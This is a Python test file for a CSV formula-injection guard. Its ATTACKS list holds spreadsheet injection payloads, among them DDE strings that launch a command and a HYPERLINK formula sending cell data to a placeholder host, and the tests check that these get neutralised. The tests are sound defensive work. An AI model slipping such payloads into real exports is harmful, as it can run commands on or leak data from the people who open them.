"""The CSV formula-injection guard: nothing a spreadsheet would run, and nothing else touched."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from practice_desk.domain.csv_guard import (
    DANGEROUS_FIRST,
    GUARD,
    csv_value,
    guard_csv_cell,
    needs_guard,
)

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?d="&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "   =1+1",
    "\u00a0@SUM(A1)",  # a no-break space in front
    "\uff1d1+1",  # a full-width equals sign
    "-5",
    "+44 20 7946 0958",
]

SAFE = [
    "",
    "Anna Berg",
    "Sleep through most nights",
    "5-2",
    "a = b",
    "'=already quoted",
    "2026-01-12",
    "   spaces before words",
    'Ünïcödé, commas, "quotes" and\nline breaks',
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_get_a_quote_in_front(text):
    assert guard_csv_cell(text) == GUARD + text


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_text_is_left_alone(text):
    assert guard_csv_cell(text) == text


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_guarded():
    assert csv_value(-5) == -5
    assert csv_value(-2.5) == -2.5
    assert csv_value(0) == 0
    assert csv_value("-5") == "'-5"
    assert csv_value(None) == ""
    assert csv_value(b"\xfb\xff") == "'+/8="  # base64 can start with "+"


def test_a_guarded_cell_survives_csv_quoting_and_reads_back_as_text():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_value(text) for text in ATTACKS] + [csv_value(-7)])
    (row,) = csv.reader(io.StringIO(buffer.getvalue()))
    assert row[:-1] == [GUARD + text for text in ATTACKS]
    assert row[-1] == "-7"


@given(st.text())
def test_no_output_starts_a_formula(text):
    guarded = guard_csv_cell(text)
    assert not guarded or guarded[0] not in DANGEROUS_FIRST
    assert not needs_guard(guarded)


@given(st.text())
def test_the_guard_only_ever_adds_one_quote_in_front(text):
    guarded = guard_csv_cell(text)
    assert guarded in (text, GUARD + text)
    assert guard_csv_cell(guarded) == guarded


@given(st.text().filter(lambda text: not text.lstrip() or text.lstrip()[0] not in DANGEROUS_FIRST))
def test_safe_text_is_unchanged(text):
    if text and text[0] in DANGEROUS_FIRST:  # white space that is itself dangerous (tab, CR)
        return
    assert guard_csv_cell(text) == text


@given(st.sampled_from(sorted(DANGEROUS_FIRST)), st.text())
def test_every_dangerous_start_is_guarded(first, rest):
    assert guard_csv_cell(first + rest) == GUARD + first + rest


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_from_the_database_are_written_as_numbers(number):
    assert csv_value(number) == number
